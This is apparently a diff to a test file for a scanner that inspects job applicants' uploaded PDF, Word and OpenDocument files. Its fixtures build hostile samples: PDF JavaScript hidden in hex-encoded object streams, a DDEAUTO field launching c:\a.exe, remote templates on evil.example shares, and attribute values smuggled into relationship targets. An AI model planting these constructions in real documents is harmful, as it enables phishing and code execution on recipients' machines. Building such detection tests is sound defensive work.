@@ -14,10 +14,13 @@ const pdfOf = (text: string) => latin1(`%PDF-1.7\n1 0 obj ${text} endobj\n`);
 const packed = (text: string) =>
   pdfOf(`<< /Filter /FlateDecode >> stream\n${deflateSync(text).toString('latin1')}`);
 const SCRIPT = '4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>';
-const objectStream = (filter: string, content: Buffer) =>
-  pdfOf(`<< /Type /ObjStm /N 1 /F#69rst 4 ${filter} >> stream\n${content.toString('latin1')}\nendstream`);
+const objectStream = (filter: string, content: Buffer, first = '4') =>
+  pdfOf(
+    `<< /Type /ObjStm /N 1 /F#69rst ${first} ${filter} >> stream\n${content.toString('latin1')}\nendstream`,
+  );
+const XLINK = 'http://www.w3.org/1999/xlink';
 const field = (...words: string[]) => ({
-  'word/document.xml': `<w:document>${words.map((word) => `<w:instrText>${word}</w:instrText>`).join('')}</w:document>`,
+  'word/document.xml': `<w:document xmlns:w="w">${words.map((word) => `<w:instrText>${word}</w:instrText>`).join('')}</w:document>`,
 });
 const wide = (text: string) => [...text].map((sign) => `${sign}\0`).join('');
 
@@ -47,7 +50,7 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
     [
       'an OpenDocument file with an event',
       'odt',
-      odt({ 'settings.xml': '<script:event-listener/>' }),
+      odt({ 'settings.xml': '<event-listener/>' }),
       'OpenDocument',
       'contains macros, controls or objects from other programs',
     ],
@@ -83,6 +86,13 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       'a PDF whose JavaScript is written as hexadecimal digits',
       'pdf',
       objectStream('/Filter /ASCIIHexDecode', Buffer.from(`${Buffer.from(SCRIPT).toString('hex')}>`)),
+      'PDF',
+      'can’t be unpacked, or takes too long to check',
+    ],
+    [
+      'a PDF whose JavaScript is written as digits with spaces, its offset elsewhere',
+      'pdf',
+      objectStream('/Filter /ASCIIHexDecode', Buffer.from('34 20 30 20 3C 3C 20 2F 53'), '9 0 R'),
       'PDF',
       'can’t be unpacked, or takes too long to check',
     ],
@@ -170,10 +180,45 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       'a Word file with a template from elsewhere that calls itself a link',
       'docx',
       docx({
-        'word/_rels/settings.xml.rels': rels('attachedTemplate', 'https://e.example/a" Id=">/hyperlink'),
+        'word/_rels/settings.xml.rels': rels('attachedTemplate', 'https://e.example/a" Title=">/hyperlink'),
       }),
       'Word',
       'fetches or sends something',
+    ],
+    [
+      'a Word file with a template from elsewhere whose address names a link',
+      'docx',
+      docx(settings('https://e.example/a.dotm?Type=&#39;/hyperlink&#39;')),
+      'Word',
+      'fetches or sends something',
+    ],
+    [
+      'a Word file with a template of a shared folder',
+      'docx',
+      docx(settings('file:////evil.example/a.dotm')),
+      'Word',
+      'fetches or sends something',
+    ],
+    [
+      'a Word file with a call of another program behind what looks like a comment',
+      'docx',
+      docx(field('DDEAUTO"c:\\a.exe"', '<![CDATA[<!--]]>')),
+      'Word',
+      'contains macros, controls or objects from other programs',
+    ],
+    [
+      'a Word file whose text has another name',
+      'docx',
+      docx({ 'word/document.dat': field('DDE x')['word/document.xml'] }),
+      'Word',
+      'contains macros, controls or objects from other programs',
+    ],
+    [
+      'a Word file that is not well-formed',
+      'docx',
+      docx({ 'word/document.xml': '<w:document xmlns:w="w"><w:p></w:document>' }),
+      'Word',
+      'can’t be unpacked, or takes too long to check',
     ],
     [
       'a Word file with a template from elsewhere, in UTF-16',
@@ -187,7 +232,7 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
     [
       'an OpenDocument file with a picture from elsewhere',
       'odt',
-      odt({ 'styles.xml': '<draw:image xlink:href="https://evil.example/a.png" xlink:actuate="onLoad"/>' }),
+      odt({ 'styles.xml': `<image xmlns:x="${XLINK}" x:href="https://evil.example/a.png"/>` }),
       'OpenDocument',
       'fetches or sends something',
     ],
@@ -230,7 +275,7 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       'an OpenDocument file with a link and a picture',
       'odt',
       odt({
-        'styles.xml': '<text:a xlink:href="https://ada.example"/><draw:image xlink:href="Pictures/1.png"/>',
+        'styles.xml': `<p xmlns:x="${XLINK}"><a x:href="https://ada.example"/><image x:href="Pictures/1.png"/></p>`,
       }),
     ],
     [
@@ -239,6 +284,9 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       pdfOf('<< /First 5 0 R /Last 6 0 R >> endobj 2 0 obj << >> stream\nBT\nendstream'),
     ],
     ['a Word file with a template of its writer', 'docx', docx(settings('file:///C:\\Users\\Ada\\CV.dotx'))],
+    ['a Word file with a template of a Mac', 'docx', docx(settings('file:////Users/ada/CV.dotx'))],
+    ['a Word file with a picture of a mail', 'docx', docx(settings('cid:image001.png@01D1'))],
+    ['a Word file with a link to Anna Hedde', 'docx', docx(field(' HYPERLINK "x" \\o "Anna Hedde "'))],
     ['a Word file with a chart', 'docx', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' })],
     [
       'an RTF file with templates of its writer',
